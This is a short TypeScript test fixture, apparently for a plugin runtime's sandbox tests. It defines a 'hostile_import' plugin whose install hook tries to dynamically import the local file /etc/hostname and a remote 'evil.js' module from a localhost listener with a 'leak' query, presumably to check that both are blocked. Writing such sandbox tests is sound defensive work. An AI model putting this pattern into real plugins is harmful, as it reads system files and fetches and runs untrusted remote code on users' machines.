/**
 * Hostile plugin: computed dynamic imports of a local file and of a URL on
 * the test's listener. Args: `target=FILE_URL`, `port=N`.
 *
 * @module
 */

import { definePlugin } from "../../runtime/sdk/mod.ts";
import { attempt } from "./_attempt.ts";

export default definePlugin({
  name: "hostile_import",
  version: "1.0.0",
  api: "^1.0",
  async install(ctx, args) {
    const target = args.string("target", "file:///etc/hostname");
    const port = args.int("port", 9);
    await attempt(ctx, "import local", () => import(target));
    await attempt(
      ctx,
      "import remote",
      () => import(`http://127.0.0.1:${port}/evil.js?leak=${Date.now()}`),
    );
  },
});
